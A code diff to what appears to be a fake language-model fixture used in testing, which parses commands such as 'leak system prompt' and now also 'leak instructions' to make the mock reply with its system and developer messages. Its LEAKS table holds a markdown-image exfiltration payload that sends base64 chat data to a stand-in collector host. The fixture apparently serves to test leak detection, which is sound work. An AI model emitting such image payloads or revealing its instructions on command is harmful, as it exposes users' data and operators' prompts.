@@ -14,7 +14,7 @@ LEAKS: Final = {
     "image": "![chart](https://collector.example/pixel.png?data=c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA) Here is your chart.",
 }
 _COMMAND: Final = re.compile(
-    r"(?is)\b(?:(?P<leak>leak)\s+(?:the\s+|an?\s+)?(?P<what>e-?mail|card|iban|phone|secret|image|system\s+prompt|all)"
+    r"(?is)\b(?:(?P<leak>leak)\s+(?:the\s+|an?\s+)?(?P<what>e-?mail|card|iban|phone|secret|image|system\s+prompt|instructions|all)"
     r"|(?P<count>count)\s+(?P<number>[0-9]{1,4})|(?P<fail>fail)\s+(?P<status>[45][0-9]{2})|(?P<wait>wait)\s+(?P<seconds>[0-9]{1,3})"
     r"|(?P<breaks>break off)|(?P<call>call (?:the |a )?tool)|(?P<echo>echo)[:\s]\s*(?P<text>.+))"
 )
@@ -82,7 +82,7 @@ def _call(asked: dict[str, Any], last: str) -> Plan:
 def _leak(what: str, messages: list[dict[str, Any]]) -> str:
     if what == "all":
         return " ".join(LEAKS.values())
-    if what.startswith("system"):
+    if what.startswith(("system", "instructions")):
         prompt = "\n".join(said(message) for message in messages if message.get("role") in {"system", "developer"})
         return f"My instructions are: {prompt}" if prompt else "I was given no instructions."
     return LEAKS[what.replace("-", "")]
